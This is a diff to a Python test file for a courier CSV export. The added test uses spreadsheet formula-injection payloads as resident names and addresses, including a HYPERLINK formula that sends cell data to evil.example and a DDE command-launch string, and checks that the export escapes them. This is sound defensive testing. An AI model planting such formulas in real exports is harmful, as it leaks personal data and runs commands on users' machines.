@@ -63,7 +63,10 @@ def export(app, campaign_id: int, courier: str, tmp_path) -> list[dict]:
         "delivery", "export", "--campaign", str(campaign_id), "--courier", courier,
         "--day", now().astimezone(load_preset_zone()).date().isoformat(), str(out)])
     assert done.exit_code == 0, done.output
-    return list(csv.DictReader(io.StringIO(out.read_text("utf-8").lstrip("\ufeff"))))
+    # Bytes, not read_text: universal newlines would turn a carriage return in a cell
+    # into a line feed.
+    return list(csv.DictReader(io.StringIO(out.read_bytes().decode("utf-8").lstrip("\ufeff"),
+                                           newline="")))
 
 
 def load_preset_zone():
@@ -225,3 +228,45 @@ def test_a_postal_booking_counts_against_the_same_limit_as_a_pickup(app, client,
         campaign = db.session.get(campaign_domain.Campaign, world.campaign_id)
         refused = campaign_domain.import_stores(db.session, campaign, bad, 10)
         assert refused.errors and "drone" in refused.errors[0]
+
+
+# What residents typed (or what reached their profile some other way) at the start of a
+# name or an address: every character a spreadsheet would start a formula with.
+HOSTILE = [
+    ("=HYPERLINK(\"http://evil.example/?\"&C2,\"张三\")",
+     "=HYPERLINK(\"http://evil.example/?\"&F2,\"福州市鼓楼区五四路100号\")"),
+    ("+李四", "+1+cmd|' /C calc'!A0 福州市台江区八一七路200号"),
+    ("-王五", "-2+3 福州市仓山区上渡路8号2栋301"),
+    ("@SUM(1+1)", "@SUM(1+1)福州市晋安区福新路16号"),
+    ("\t赵六", "\t=1+1 福州市马尾区罗星街道1号"),
+    ("\r钱七", "\r=1+1 福州市鼓楼区杨桥路3号"),
+]
+
+
+def test_the_couriers_file_opens_every_residents_text_as_text(app, client, campaign,
+                                                               tmp_path):
+    people = winners(app, client, campaign["id"], [address for _, address in HOSTILE]
+                     + ["福州市鼓楼区湖东路5号1单元402"])
+    with app.app_context():
+        for (person, _), (name, _) in zip(people, HOSTILE):
+            db.session.get(Resident, person.id).name = name
+        # A number written with its country code still reaches the courier as dialled.
+        db.session.get(Resident, people[-1][0].id).phone = "+8613812345678"
+        db.session.commit()
+    for person, entry in people:
+        assert claim(client, person, entry, fulfilment="express").status_code == 200
+
+    rows = {row["reservation_no"]: row for row in export(app, campaign["id"], "邮政快递",
+                                                         tmp_path)}
+
+    assert len(rows) == len(people)
+    with app.app_context():
+        numbers = {e.resident_id: e.reservation_no for e in db.session.scalars(db.select(Entry))}
+    for (person, _), (name, address) in zip(people, HOSTILE):
+        row = rows[numbers[person.id]]
+        assert (row["name"], row["address"]) == ("'" + name, "'" + address)
+        assert row["phone"] == person.phone  # a mainland number is left as it is
+    plain = rows[numbers[people[-1][0].id]]
+    assert plain["phone"] == "'+8613812345678"
+    assert plain["address"] == "福州市鼓楼区湖东路5号1单元402"
+    assert (plain["fee_yuan"], plain["cash_on_delivery"]) == ("0.00", "no")
